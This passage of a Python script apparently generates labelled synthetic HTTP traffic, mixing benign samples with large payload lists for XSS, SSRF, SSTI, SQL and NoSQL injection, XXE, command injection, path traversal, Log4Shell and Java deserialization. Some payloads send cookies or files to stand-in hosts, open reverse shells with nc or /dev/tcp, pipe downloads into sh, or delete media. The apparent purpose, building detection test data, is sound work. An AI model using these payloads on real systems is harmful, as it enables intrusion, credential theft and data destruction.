        ("SVG creative", "Designer sent an SVG: <svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 300 250\"><a href=\"%%CLICK_URL_ESC%%\"><rect width=\"300\" height=\"250\" fill=\"#e4002b\"/><text x=\"20\" y=\"40\">Sale!</text></a></svg> - do we accept SVG?"),
        ("Cron job for reports", "0 3 * * * /usr/local/bin/export_reports.sh --date=$(date -d yesterday +%F) > /var/log/reports.log 2>&1"),
    ]
    for i in range(1, n + 1):
        title, body_txt = snippets[(i - 1) % len(snippets)]
        if i > len(snippets):
            title = "Re: " + title
            body_txt = "Still happening after the deploy. Same snippet:\n\n" + body_txt
        k = i % 3
        if k == 0:
            body = json.dumps({"ticket": {"subject": title, "comment": {"body": body_txt, "public": False}, "priority": "normal", "tags": ["adops", "creative"]}})
            out.append(mk("dev-content", "support-ticket", i, "POST", "/api/v2/tickets", api_h(r, "adplatform.zendesk.example"), body))
        elif k == 1:
            body = qs({"subject": title, "description": body_txt, "component": "Ad Ops", "csrf_token": rhex(r, 32)})
            out.append(mk("dev-content", "support-form", i, "POST", "/support/new", browser_h(r, "help.adplatform.example", "text/html", [["Content-Type", "application/x-www-form-urlencoded"], ["Cookie", f"sess={rhex(r, 32)}"]]), body))
        else:
            body = json.dumps({"channel": "C0" + rhex(r, 8).upper(), "text": f"*{title}*\n```\n{body_txt}\n```", "thread_ts": f"1730{r.randint(100000, 999999)}.{r.randint(100000, 999999)}"})
            out.append(mk("dev-content", "chat-paste", i, "POST", "/api/chat.postMessage", api_h(r, "slack.adplatform.example"), body))
    return out


# ---------------------------------------------------------------- attacks

def a_xss(r):
    out = []
    n = [0]

    def add(name, method, uri, hs, body=None):
        n[0] += 1
        out.append(mk("xss", name, n[0], method, uri, hs, body))
    creatives = [
        "<script>eval(atob('ZG9jdW1lbnQubG9jYXRpb249Imh0dHBzOi8vcHJpemUtd2lubmVyLmV4YW1wbGUvP2M9Iitkb2N1bWVudC5jb29raWU='))</script>",
        "<img src=x onerror=\"window['ev'+'al'](String.fromCharCode(100,111,99,117,109,101,110,116,46,99,111,111,107,105,101))\">",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"top.location='https://gift-card.example/claim?'+document.cookie\"><rect width=\"300\" height=\"250\"/></svg>",
        "<iframe srcdoc=\"&lt;script&gt;parent.location='//malv.example/r'&lt;/script&gt;\" width=300 height=250></iframe>",
        "<div style=\"width:300px\"><a href=\"javascript:fetch('//c2.example/x?'+document.cookie)\"><img src=\"https://cdn.example/b.jpg\"></a></div>",
        "<script>var _0x3f=['\\x63\\x6f\\x6f\\x6b\\x69\\x65','\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e'];window[_0x3f[1]]='//redir.example/?'+document[_0x3f[0]];</script>",
        "<body onpageshow=\"setTimeout(function(){location.replace('https://you-won.example')},10)\">",
        "<object data=\"javascript:alert(document.domain)\"></object>",
        "<img src=\"https://cdn.example/1x1.gif\" onload=\"new Image().src='//log.example/c?'+escape(document.cookie)\">",
        "<details open ontoggle=\"import('//evil.example/m.js')\">",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
        "<script src=\"//cdn-jsdelivr.example.ru/npm/adlib@1.0/loader.min.js\"></script><script>adlib.redirect(atob('aHR0cHM6Ly9tYWx2LmV4YW1wbGU='))</script>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<input autofocus onfocus=\"eval(decodeURIComponent('%64%6f%63%75%6d%65%6e%74%2e%77%72%69%74%65%28%27%3c%73%63%72%69%70%74%3e%27%29'))\">",
    ]
    for c in creatives:
        k = r.random()
        if k < 0.4:  # bid response adm logged for audit
            bid = {"id": ruuid(r), "seatbid": [{"seat": r.choice(BIDDERS), "bid": [{"id": rhex(r, 8), "impid": "1", "price": 2.31, "adm": c, "adomain": ["brand-shop.example"], "crid": "884512", "w": 300, "h": 250}]}]}
            add("creative-adm", "POST", "/v1/audit/bid-responses?exchange=nova", server_h(r, "creative-audit.adexchange.example"), json.dumps(bid))
        elif k < 0.75:
            add("creative-upload", "POST", "/v1/creatives", api_h(r, "api.adplatform.example"), json.dumps({"name": "MREC 300x250 v2", "format": "html5", "width": 300, "height": 250, "markup": c, "click_url": "https://brand-shop.example/"}))
        else:
            add("creative-upload-form", "POST", "/creatives/new", browser_h(r, "ui.adplatform.example", "text/html", [["Content-Type", "application/x-www-form-urlencoded"], ["Cookie", "sess=" + rhex(r, 32)]]), qs({"name": "Leaderboard", "tag": c, "csrf": rhex(r, 32)}))
    # javascript: click URLs in trackers / VAST / campaign
    jsurls = ["javascript:alert(document.cookie)", "JaVaScRiPt:eval('al'+'ert(1)')", "javascript&#58;alert(1)", "java\tscript:alert(1)",
              "javascript:window.location='https://phish.example/?c='+document.cookie", "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+", "%6Aavascript:alert(1)", " javascript:top.location=name"]
    for j in jsurls:
        k = r.random()
        if k < 0.4:
            add("click-js", "GET", "/clk?" + qs({"cid": str(r.randint(10**5, 10**6)), "r": j}), browser_h(r, "clk.adserve.example"))
        elif k < 0.7:
            add("vast-clickthrough", "POST", "/cache", server_h(r, "prebid-cache.adexchange.example"), json.dumps({"puts": [{"type": "xml", "value": vast(r, click=j)}]}))
        else:
            add("campaign-click", "PATCH", "/v1/line-items/%d" % r.randint(10**5, 10**6), api_h(r, "api.adplatform.example"), json.dumps({"creative": {"click_url": j}}))
    # reflected / stored through other domain fields
    others = [
        ("GET", "/search/campaigns?q=" + q("\"><script>alert(String.fromCharCode(88,83,83))</script>"), None, "reporting-search"),
        ("GET", "/preview?" + qs({"crid": "1", "title": "<img src=1 onerror=alert(document.domain)>"}), None, "preview-title"),
        ("POST", "/v1/batch", json.dumps({"batch": [{"type": "track", "event": "Product Viewed", "properties": {"name": "<svg/onload=alert(1)>"}, "anonymousId": "a1"}]}), "cdp-property"),
        ("POST", "/v1/batch", json.dumps({"batch": [{"type": "identify", "userId": "u1", "traits": {"name": "\u003cscript\u003efetch('//x.example/'+localStorage.token)\u003c/script\u003e"}}]}), "cdp-trait-escaped"),
        ("POST", "/2/tweets", json.dumps({"text": "Great sale! <a href=\"javascript:alert(1)\">click</a> <iframe src=javascript:alert(2)>"}), "social-post"),
        ("POST", "/v3/templates", json.dumps({"name": "Welcome", "html": "<p>Hi {{first_name}}</p><img src=x onerror=\"fetch('https://exfil.example/?'+document.cookie)\">"}), "email-template"),
        ("GET", "/landing?" + qs({"utm_campaign": "summer'\"><svg onload=alert(1)>", "utm_source": "google"}), None, "utm-reflect"),
        ("GET", "/landing?utm_content=%253Cscript%253Ealert(1)%253C%252Fscript%253E&utm_source=fb", None, "utm-double-enc"),
        ("PUT", "/v1/shows/evil/feed", RSS.format(title="Show", slug="evil", author="x", ep=1, eptitle="t", guid="g", length=1, mins=10, topic="x", guest="<script>document.location='//steal.example/'+document.cookie</script>").replace("<![CDATA[<p>Weekly", "<![CDATA[<script>alert(1)</script><p>Weekly"), "podcast-rss"),
        ("POST", "/v1/beacon?k=abc", json.dumps({"e": "error", "err": {"msg": "<img src=x onerror=alert(1)>"}}), "telemetry-msg"),
        ("GET", "/gampad/ads?iu=/1234/home&cust_params=" + q("kw=<script>alert(1)</script>&pos=top"), None, "cust-params"),
        ("POST", "/v2/projects/1/experiments", json.dumps({"key": "cta", "variations": [{"key": "t", "variables": {"html": "<button onclick=\"eval(location.hash.slice(1))\">Buy</button>"}}]}), "ab-variation"),
    ]
    for m, u, b, nm in others:
        hs = api_h(r, "api.adplatform.example", "application/json" if b and b.startswith("{") else ("application/rss+xml" if b else None))
        add(nm, m, u, hs, b)
    return out


def a_ssrf(r):
    out = []
    targets = ["http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
               "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "http://[::ffff:a9fe:a9fe]/latest/meta-data/", "http://2852039166/latest/meta-data/",
               "http://0x7f000001:8080/admin", "http://127.0.0.1:2375/containers/json", "http://localhost:9200/_cat/indices", "file:///etc/passwd", "file:///proc/self/environ",
               "gopher://127.0.0.1:6379/_SET%20x%20%22%3C%3Fphp%20system%28%24_GET%5Bc%5D%29%3B%3F%3E%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fwww%0D%0ASAVE",
               "dict://127.0.0.1:11211/stats", "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", "http://100.100.100.200/latest/meta-data/",
               "http://169.254.170.2/v2/credentials", "http://[fd00:ec2::254]/latest/meta-data/", "http://0177.0.0.1/server-status", "http://127.1:8500/v1/kv/?recurse",
               "http://internal-admin.corp.local/", "ldap://127.0.0.1:389/", "http://169.254.169.254.nip.io/latest/user-data", "tftp://10.0.0.5/config"]
    for i, t in enumerate(targets, 1):
        k = i % 6
        if k == 0:
            out.append(mk("ssrf", "click-dest", i, "GET", "/clk?" + qs({"cid": "1234", "r": t}), browser_h(r, "clk.adserve.example")))
        elif k == 1:
            out.append(mk("ssrf", "postback-url", i, "POST", "/api/v1/partners/postbacks", api_h(r, "api.mmp-track.example"), json.dumps({"event": "install", "postback_url": t + ("&" if "?" in t else "?") + "click_id={click_id}"})))
        elif k == 2:
            out.append(mk("ssrf", "vast-wrapper", i, "POST", "/cache", server_h(r, "prebid-cache.adexchange.example"),
                          json.dumps({"puts": [{"type": "xml", "value": f"<VAST version=\"3.0\"><Ad><Wrapper><AdSystem>x</AdSystem><VASTAdTagURI><![CDATA[{t}]]></VASTAdTagURI><Impression><![CDATA[https://t.example/i]]></Impression></Wrapper></Ad></VAST>"}]})))
        elif k == 3:
            out.append(mk("ssrf", "podcast-feed", i, "POST", "/api/1.0/add/byfeedurl", api_h(r, "api.podindex.example"), json.dumps({"url": t})))
        elif k == 4:
            out.append(mk("ssrf", "transcode-input", i, "POST", "/v2/jobs", api_h(r, "transcode.mediasvc.example"), json.dumps({"input": {"url": t}, "outputs": [{"preset": "hls_abr_1080p"}]})))
        else:
            out.append(mk("ssrf", "image-proxy", i, "GET", "/creative-preview/fetch?" + qs({"url": t, "w": "300", "h": "250"}), api_h(r, "ui.adplatform.example", None)))
    return out


def a_ssti(r):
    out = []
    pays = ["{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
            "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('curl x.example|sh') }}{% endif %}{% endfor %}",
            "${T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
            "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))$rt.getRuntime().exec('whoami')",
            "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
            "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}", "<%= `cat /etc/passwd` %>", "<%= system('id') %>",
            "{{ request.application.__globals__.__builtins__.__import__('os').popen('env').read() }}", "{php}echo `id`;{/php}", "{{ config.items() }}",
            "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
            "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('ls -la');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
            "{{ lipsum.__globals__['os'].popen('id').read() }}", "${{<%[%'\"}}%\\.", "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
            "#{7*7}${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",\"id\").start()}", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"]
    for i, p in enumerate(pays, 1):
        k = i % 4
        if k == 0:
            out.append(mk("ssti", "email-template", i, "POST", "/v3/templates", api_h(r, "api.mailer-pro.example"), json.dumps({"name": "Promo", "engine": "jinja", "html": f"<p>Hi {p}</p>", "subject": "Hello"})))
        elif k == 1:
            out.append(mk("ssti", "email-subject", i, "PUT", "/api/v1/campaigns/%d/content" % r.randint(1000, 9999), api_h(r, "api.mailer-pro.example"), json.dumps({"subject": p, "preheader": "Deals inside"})))
        elif k == 2:
            out.append(mk("ssti", "preview-merge", i, "GET", "/v3/templates/preview?" + qs({"template_id": "42", "merge_vars[first_name]": p}), api_h(r, "api.mailer-pro.example", None)))
        else:
            out.append(mk("ssti", "macro-expand", i, "POST", "/v1/macros/render", api_h(r, "api.adplatform.example", "application/x-www-form-urlencoded"), qs({"template": "https://t.example/c?cb=" + p, "ctx": "preview"})))
    return out


def a_sqli(r):
    out = []
    pays = ["' OR '1'='1' -- ", "1 UNION SELECT username,password,3,4 FROM admin_users--", "x' AND SLEEP(5)-- -", "1; DROP TABLE campaigns;--",
            "') OR 1=1 UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables#", "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)",
            "spend desc, (CASE WHEN (SELECT SUBSTRING(password,1,1) FROM users LIMIT 1)='a' THEN 1 ELSE 1/0 END)", "1' AND extractvalue(1,concat(0x7e,(SELECT user())))-- ",
            "Summer'; WAITFOR DELAY '0:0:5'--", "1 or pg_sleep(5)--", "x' UNION SELECT api_key,secret FROM advertisers WHERE '1'='1",
            "' || (SELECT CASE WHEN (1=1) THEN TO_CHAR(1/0) ELSE 'a' END FROM dual) || '", "date, (select load_file('/etc/passwd'))",
            "1%27%20UNION%20SELECT%201,2,3--", "-1' UnIoN/**/SeLeCt/**/1,group_concat(email),3/**/FrOm/**/users#", "1' AND 1=CONVERT(int,(SELECT @@version))--",
            "campaign_id) OR 1=1--", "x'; EXEC xp_cmdshell 'whoami'--", "1 AND ascii(substring((select password from users limit 1),1,1))>64",
            "' OR 'x'='x", "admin'/*", "1 ORDER BY 10--", "US') AND 1=(SELECT 1 FROM pg_sleep(5)) AND ('a'='a", "'; INSERT INTO users(email,role) VALUES('x@evil.example','admin');--",
            "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))", "name FROM creatives; SELECT * FROM billing--", "1' AND GTID_SUBSET(CONCAT(0x7178,(SELECT database())),1)-- x",
            "%2527%2520OR%25201%253D1--", "country=in=(US');SELECT pg_sleep(10);--)", "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)"]
    for i, p in enumerate(pays, 1):
        k = i % 6
        hs = api_h(r, "reporting.adplatform.example", None)
        if k == 0:
            out.append(mk("sqli", "report-filter", i, "GET", "/api/v3/reports?" + qs({"metrics": "impressions,clicks", "filter": f"campaign_name=='{p}'"}), hs))
        elif k == 1:
            uri = "/api/v3/reports?metrics=spend&campaign_id=" + (p if "%" in p else q(p))
            out.append(mk("sqli", "report-param", i, "GET", uri, hs))
        elif k == 2:
            out.append(mk("sqli", "report-sort", i, "GET", "/api/v3/reports?" + qs({"metrics": "spend", "sort": p}), hs))
        elif k == 3:
            hs.append(["Content-Type", "application/json"])
            out.append(mk("sqli", "segment-builder", i, "POST", "/v1/audiences/segments", hs, json.dumps({"name": "LAL", "rules": [{"field": "country", "op": "eq", "value": p}]})))
        elif k == 4:
            hs.append(["Content-Type", "application/x-www-form-urlencoded"])
            out.append(mk("sqli", "postback-param", i, "POST", "/api/v2/conversions", hs, qs({"click_id": p, "event": "purchase", "revenue": "9.99"})))
        else:
            out.append(mk("sqli", "tracker-cookie", i, "GET", "/imp?crid=1&cb=123", [["Host", "trk.adserve.example"], ["User-Agent", UAS[0]], ["Cookie", f"_cid={q(p)}; IDE=AHWqTU"]]))
    return out


def a_nosqli(r):
    out = []
    bodies = [{"filters": {"ltv": {"$gt": ""}, "email": {"$ne": None}}}, {"filters": {"$where": "this.role == 'admin' || sleep(5000)"}},
              {"filters": {"segment": {"$regex": ".*"}, "owner": {"$ne": "x"}}}, {"filters": {"$or": [{"advertiser_id": {"$exists": True}}, {"1": 1}]}},
              {"filters": {"country": {"$function": {"body": "function(){return require('child_process')}", "args": [], "lang": "js"}}}},
              {"filters": {"$expr": {"$gt": [{"$strLenCP": "$password"}, 0]}}}, {"username": {"$ne": "admin"}, "password": {"$gt": ""}},
              {"pipeline": [{"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}}, {"$out": "public_export"}]}]
    for i, b in enumerate(bodies, 1):
        out.append(mk("nosqli", "audience-filter", i, "POST", r.choice(["/v1/audiences/preview", "/v1/audiences/count", "/api/login"]), api_h(r, "api.cdp.example"), json.dumps(b)))
    qss = ["filters[ltv][$gt]=&filters[email][$ne]=x", "advertiser[$ne]=1&status=active", "segment[$regex]=.*&segment[$options]=i",
           "user_id[$in][]=1&user_id[$in][]=2&token[$exists]=false", "where=" + q("{\"$where\":\"sleep(5000)\"}"), "q=" + q("{\"email\":{\"$regex\":\"^a\"}}")]
    for j, s in enumerate(qss, len(bodies) + 1):
        out.append(mk("nosqli", "audience-query", j, "GET", "/v1/audiences?" + s, api_h(r, "api.cdp.example", None)))
    return out


def a_xxe(r):
    out = []
    dt = ["<!DOCTYPE VAST [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>", "<!DOCTYPE VAST [<!ENTITY % ext SYSTEM \"http://attacker.example/evil.dtd\"> %ext;]>",
          "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"http://169.254.169.254/latest/meta-data/\">]>", "<!DOCTYPE r [<!ENTITY % a SYSTEM \"php://filter/convert.base64-encode/resource=/etc/hosts\"><!ENTITY % b \"<!ENTITY &#x25; c SYSTEM 'http://x.example/?%a;'>\">%b;%c;]>",
          "<!DOCTYPE x SYSTEM \"http://oast.example/x.dtd\">", "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\"><!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">]>",
          "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///c:/windows/win.ini\">]>", "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"expect://id\">]>"]
    for i, d in enumerate(dt, 1):
        ent = "&xxe;" if "xxe" in d else ("&lol3;" if "lol" in d else "")
        k = i % 3
        if k == 0:
            body = "<?xml version=\"1.0\"?>\n" + d + "\n<VAST version=\"4.0\"><Ad id=\"1\"><InLine><AdSystem>x</AdSystem><AdTitle>" + ent + "</AdTitle></InLine></Ad></VAST>"
            out.append(mk("xxe", "vast-upload", i, "POST", "/v1/creatives/vast", api_h(r, "api.adplatform.example", "application/xml"), body))
        elif k == 1:
            body = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n" + d.replace("VAST", "rss") + "\n<rss version=\"2.0\"><channel><title>Show " + ent + "</title><item><title>Ep 1</title></item></channel></rss>"
            out.append(mk("xxe", "rss-feed", i, "PUT", "/v1/shows/ads-weekly/feed", api_h(r, "hosting.podhost.example", "application/rss+xml"), body))
        else:
            body = "<?xml version=\"1.0\"?>\n" + d.replace("VAST", "MPD") + "\n<MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\"><Period><BaseURL>" + ent + "</BaseURL></Period></MPD>"
            out.append(mk("xxe", "mpd-ingest", i, "POST", "/v1/live/channels/ch1/manifest", api_h(r, "origin.streamcdn.example", "application/dash+xml"), body))
    extra = [("svg-creative", "image/svg+xml", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM \"file:///etc/hostname\">]><svg width=\"300\" height=\"250\" xmlns=\"http://www.w3.org/2000/svg\"><text x=\"10\" y=\"20\">&xxe;</text></svg>"),
             ("xinclude-vast", "application/xml", "<VAST xmlns:xi=\"http://www.w3.org/2001/XInclude\" version=\"4.0\"><Ad><InLine><AdTitle><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></AdTitle></InLine></Ad></VAST>"),
             ("cache-put", "application/json", json.dumps({"puts": [{"type": "xml", "value": "<?xml version=\"1.0\"?><!DOCTYPE VAST [<!ENTITY x SYSTEM \"file:///etc/shadow\">]><VAST version=\"3.0\"><Ad><InLine><AdTitle>&x;</AdTitle></InLine></Ad></VAST>"}]})),
             ("soap-report", "text/xml; charset=utf-8", "<?xml version=\"1.0\"?><!DOCTYPE soap [<!ENTITY % d SYSTEM \"http://evil.example/d.dtd\">%d;]><soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Body><getReport><id>1</id></getReport></soapenv:Body></soapenv:Envelope>"),
             ("opml-import", "text/x-opml", "<?xml version=\"1.0\"?><!DOCTYPE opml [<!ENTITY ent SYSTEM \"file:///proc/self/environ\">]><opml version=\"2.0\"><body><outline text=\"&ent;\" xmlUrl=\"https://f.example/rss\"/></body></opml>"),
             ("sitemap-feed", "application/xml", "<?xml version=\"1.0\"?>\n<!DOCTYPE urlset [\n  <!ELEMENT urlset ANY>\n  <!ENTITY sp SYSTEM \"netdoc:///etc/passwd\">\n]>\n<urlset><url><loc>&sp;</loc></url></urlset>")]
    for j, (nm, ct, body) in enumerate(extra, len(dt) + 1):
        out.append(mk("xxe", nm, j, "POST", "/v1/import/" + nm.split("-")[0], api_h(r, "api.adplatform.example", ct), body))
    return out


def a_rce(r):
    out = []
    fnames = ["spot.mp4; curl http://203.0.113.7/x.sh | sh", "$(id).mov", "`wget -O- http://evil.example/s|bash`.mp4", "clip.mp4|nc -e /bin/sh 203.0.113.9 4444",
              "a.mp4 && cat /etc/passwd", "x.mov$(sleep${IFS}10)", "teaser.mp4\n/bin/bash -i >& /dev/tcp/198.51.100.3/443 0>&1", "v.mp4;python3 -c 'import os;os.system(\"id\")'"]
    for i, f in enumerate(fnames, 1):
        out.append(mk("rce", "transcode-filename", i, "POST", "/v2/jobs", api_h(r, "transcode.mediasvc.example"), json.dumps({"input": {"url": "s3://media-ingest-prod/uploads/" + f, "filename": f}, "outputs": [{"preset": "hls_abr_1080p"}]})))
    opts = ["-vf scale=1280:720 -f null /dev/null; rm -rf /var/media", "-i concat:/etc/passwd -f data -", "scale=1280:-2,drawtext=text='x':textfile=/etc/passwd",
            "1080p -y /tmp/out.mp4 | bash -c 'curl evil.example|sh'", "${IFS}&&${IFS}id", "-filter_complex \"[0]\" ; /usr/bin/id"]
    for j, o in enumerate(opts, len(fnames) + 1):
        out.append(mk("rce", "ffmpeg-options", j, "POST", "/v2/jobs", api_h(r, "transcode.mediasvc.example"), json.dumps({"input": {"url": "s3://bucket/a.mp4"}, "outputs": [{"preset": "custom", "ffmpeg_args": o}]})))
    misc = [("GET", "/v1/thumbs?" + qs({"src": "a.mp4", "at": "00:00:05;id"}), None, "thumb-timestamp"),
            ("GET", "/v1/thumbs?" + qs({"src": "a.mp4", "size": "320x180`cat /etc/passwd`"}), None, "thumb-size"),
            ("POST", "/v1/images/resize", qs({"file": "banner.png", "resize": "300x250'; ping -c 3 oast.example; '"}), "imagemagick-resize"),
            ("POST", "/v1/webhooks/test", json.dumps({"url": "https://hooks.example/x", "cmd": "curl -d @/etc/passwd http://evil.example"}), "webhook-test"),
            ("GET", "/api/ping?host=" + q("8.8.8.8;cat /etc/shadow"), None, "ops-ping"),
            ("GET", "/v2/jobs/status?job=" + q("abc|/bin/sh -c 'uname -a'"), None, "job-status"),
            ("POST", "/v1/captions/convert", json.dumps({"input": "subs.srt", "format": "vtt && powershell -enc SQBFAFgA"}), "captions-format"),
            ("POST", "/v1/feed/fetch", qs({"url": "https://f.example/rss", "ua": "x$(curl${IFS}-s${IFS}evil.example/p|sh)"}), "feed-ua")]
    for m, u, b, nm in misc:
        j += 1
        ct = None if b is None else ("application/json" if b.startswith("{") else "application/x-www-form-urlencoded")
        out.append(mk("rce", nm, j, m, u, api_h(r, "transcode.mediasvc.example", ct), b))
    return out


def a_lfi(r):
    out = []
    paths = ["/assets/creatives/../../../../etc/passwd", "/assets/creatives/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/vod/abc/..%2f..%2f..%2f..%2fetc%2fshadow",
             "/vod/abc/%252e%252e%252f%252e%252e%252fetc%252fpasswd", "/static/..%c0%af..%c0%af..%c0%afetc/passwd", "/vod/..\\..\\..\\windows\\win.ini",
             "/assets/....//....//....//etc/passwd"]
    for i, p in enumerate(paths, 1):
        out.append(mk("lfi", "asset-path", i, "GET", p, [["Host", "vod.streamcdn.example"], ["User-Agent", UAS[0]], ["Accept", "*/*"]]))
    qp = [("manifest", "../../../../etc/passwd"), ("file", "/proc/self/environ"), ("template", "../../../app/config/secrets.yml"), ("path", "....//....//etc/hosts"),
          ("sprite", "..%2F..%2F..%2Fetc%2Fpasswd%00.jpg"), ("playlist", "/var/log/nginx/access.log"), ("creative", "file:///etc/passwd"), ("asset", "..\\..\\..\\..\\boot.ini"),
          ("font", "../../../../../../root/.ssh/id_rsa"), ("lang", "../../../../../../proc/self/cmdline")]
    for j, (k, v) in enumerate(qp, len(paths) + 1):
        uri = f"/v1/media/get?{k}=" + (v if "%" in v else q(v))
        out.append(mk("lfi", "media-param", j, "GET", uri, api_h(r, "api.streamcdn.example", None)))
    out.append(mk("lfi", "hls-playlist-ssrf", len(out) + 1, "POST", "/v2/jobs", api_h(r, "transcode.mediasvc.example"),
                  json.dumps({"input": {"url": "https://x.example/p.m3u8", "inline_playlist": "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:file:///etc/passwd|subfile,,start,0,end,0,,:/etc/passwd\n#EXT-X-ENDLIST"}})))
    out.append(mk("lfi", "subtitle-path", len(out) + 1, "POST", "/v1/captions/convert", api_h(r, "api.streamcdn.example"), json.dumps({"input": "../../../../../etc/passwd", "format": "vtt"})))
    return out


def a_java(r):
    out = []
    l4 = ["${jndi:ldap://log4.oast.example/a}", "${${lower:j}ndi:${lower:l}dap://198.51.100.4:1389/Exploit}", "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/o}",
          "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.x.example}", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://x.example/a}", "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D"]
    for i, p in enumerate(l4, 1):
        k = i % 3
        if k == 1:
            out.append(mk("java", "log4shell-ua", i, "GET", "/imp?crid=1&cb=1", [["Host", "trk.adserve.example"], ["User-Agent", p], ["Accept", "*/*"]]))
        elif k == 2:
            out.append(mk("java", "log4shell-bid", i, "POST", "/openrtb2/auction", server_h(r, "pbs.adexchange.example"), json.dumps(ortb_request(r, ua=p))))
        else:
            out.append(mk("java", "log4shell-param", i, "GET", "/postback?click_id=" + (p if "%" in p else q(p)) + "&event=install", server_h(r, "postback.affnet.example", None, [["X-Forwarded-For", "203.0.113.5"]])))
    more = [("log4shell-xff", "GET", "/v1/beacon?k=1", None, [["X-Forwarded-For", "${jndi:ldap://x.example/xff}"]]),
            ("log4shell-eid", "POST", "/openrtb2/auction", json.dumps(ortb_request(r, user_ext={"eids": [{"source": "${jndi:ldap://e.example/z}", "uids": [{"id": "1"}]}]})), []),
            ("log4shell-referer", "GET", "/px.gif?e=pv", None, [["Referer", "https://www.dailycourier.com/${jndi:ldaps://r.example/x}"]]),
            ("deser-cookie", "GET", "/api/v1/session", None, [["Cookie", "JSESSIONID=1; remember=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0TAAJYXV0aG9yaXR5dAASTGphdmEvbGFuZy9TdHJpbmc7"]]),
            ("deser-body", "POST", "/rtb/legacy/bid", "\xac\xed\x00\x05sr\x002org.apache.commons.collections.functors.InvokerTransformer", [["Content-Type", "application/x-java-serialized-object"]]),
            ("spring4shell", "POST", "/v1/campaigns/update", qs({"class.module.classLoader.resources.context.parent.pipeline.first.pattern": "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\")))", "class.module.classLoader.resources.context.parent.pipeline.first.suffix": ".jsp"}), [["Content-Type", "application/x-www-form-urlencoded"]]),
            ("ognl", "GET", "/reports/export.action?" + qs({"name": "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"}), None, []),
            ("jackson-gadget", "POST", "/v1/events", json.dumps({"event": ["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://x.example:1389/Obj", "autoCommit": True}]}), [["Content-Type", "application/json"]]),
            ("deser-b64-header", "GET", "/api/v1/me", None, [["X-Auth-State", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7"]]),
            ("el-injection", "POST", "/v1/macros/render", json.dumps({"template": "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"}), [["Content-Type", "application/json"]])]
